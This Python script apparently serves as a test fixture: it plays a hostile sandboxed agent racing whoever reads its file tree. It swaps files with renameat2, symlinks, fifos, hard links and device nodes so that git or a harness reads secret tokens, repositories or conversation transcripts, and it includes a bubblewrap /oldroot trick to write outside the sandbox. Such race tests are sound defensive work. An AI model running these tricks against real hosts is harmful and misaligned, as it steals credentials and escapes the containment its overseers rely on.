"""An agent that exchanges files under whoever reads its tree.

    swapping.py TRICK TREE SECRETS        prints `ready`, then plays the trick until it is killed

A script, because it runs in the sandbox of an agent: it sees its tree, and of SECRETS only the name.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

HERE = -100
EXCHANGE = 2
LARGE = 4 << 20
MANY = tuple(f"token-{number}" for number in range(60))
"""The more files there are, the more often one of them is exchanged while git reads them."""
_libc = ctypes.CDLL(None)


def exchange(one: str, other: str) -> None:
    _libc.renameat2(HERE, one.encode(), HERE, other.encode(), EXCHANGE)


def forever(one: str, other: str) -> Callable[[], None]:
    return lambda: exchange(one, other)


def folder_for_link(secrets: str) -> Callable[[], None]:
    for name in ("token", *MANY):
        place(f"swap/{name}", "harmless")
    Path("spare").symlink_to(secrets)
    return forever("swap", "spare")


def folder_above_for_link(secrets: str) -> Callable[[], None]:
    place(f"swap/{Path(secrets).name}/token", "harmless")
    Path("spare").symlink_to(Path(secrets).parent)
    return forever("swap", "spare")


def file_for_link(secrets: str) -> Callable[[], None]:
    place("swap", "harmless")
    Path("spare").symlink_to(f"{secrets}/token")
    return forever("swap", "spare")


def file_for_pipe(_: str) -> Callable[[], None]:
    place("swap", "harmless")
    os.mkfifo("spare")
    return forever("swap", "spare")


def pipe_for_link_out_of_the_sandbox(secrets: str) -> Callable[[], None]:
    """Where bubblewrap keeps the old root while it builds the new one: a mount on the pipe would make a file there."""
    out = Path("/oldroot", secrets.lstrip("/"), "made")

    def once() -> None:
        for name in (".gitignore", "nested/.gitattributes"):
            with contextlib.suppress(OSError):
                Path(name).unlink(missing_ok=True)
                os.mkfifo(name)
                Path(name).unlink(missing_ok=True)
                Path(name).symlink_to(out)

    place("nested/file", "harmless")
    return once


def rules_for_link(secrets: str) -> Callable[[], None]:
    """The files that git reads by itself."""
    names = (".gitignore", ".gitattributes", ".gitmodules")
    for name in names:
        place(name, "")
        Path(f"spare{name}").symlink_to(f"{secrets}/token")

    def once() -> None:
        for name in names:
            exchange(name, f"spare{name}")

    return once


def repository_for_link(secrets: str) -> Callable[[], None]:
    """Its own repository, and one inside its tree."""
    place("nested/.git", f"gitdir: {secrets}/repository")
    place("nested/file", "harmless")
    Path("spare").symlink_to(f"{secrets}/repository")
    return forever(".git", "spare")


def transcript_for_link(secrets: str) -> Callable[[], None]:
    """The file of its conversation, and the folder of all of them."""
    place("projects/p/conversation.jsonl", "harmless")
    Path("projects/p/spare").symlink_to(f"{secrets}/token")
    Path("spare").symlink_to(f"{secrets}/projects")

    def once() -> None:
        exchange("projects/p/conversation.jsonl", "projects/p/spare")
        exchange("projects", "spare")

    return once


def hard_link(secrets: str) -> Callable[[], None]:
    def once() -> None:
        with contextlib.suppress(OSError):
            os.link(f"{secrets}/token", "linked")

    return once


def device(_: str) -> Callable[[], None]:
    def once() -> None:
        with contextlib.suppress(OSError):
            os.mknod("zero", 0o20666, os.makedev(1, 5))

    return once


def file_that_shrinks(_: str) -> Callable[[], None]:
    content = os.urandom(LARGE)

    def once() -> None:
        with Path("shrinks").open("wb") as file:
            file.write(content)
            os.utime(file.fileno())
            file.truncate(1)

    once()
    return once


def folder_that_goes(_: str) -> Callable[[], None]:
    def once() -> None:
        for name in ("one", "two", "three"):
            place(f"goes/{name}/file", name)
        shutil.rmtree("goes", ignore_errors=True)

    return once


TRICKS = {
    trick.__name__: trick
    for trick in (
        *(folder_for_link, folder_above_for_link, file_for_link, file_for_pipe, rules_for_link, repository_for_link),
        pipe_for_link_out_of_the_sandbox,
        *(transcript_for_link, hard_link, device, file_that_shrinks, folder_that_goes),
    )
}


def place(name: str, content: str) -> None:
    with contextlib.suppress(OSError):
        Path(name).parent.mkdir(parents=True, exist_ok=True)
        Path(name).unlink(missing_ok=True)
        Path(name).write_text(content)


if __name__ == "__main__":
    trick, tree, secrets = sys.argv[1:]
    os.chdir(tree)
    again = TRICKS[trick](secrets)
    print("ready", flush=True)
    while True:
        again()
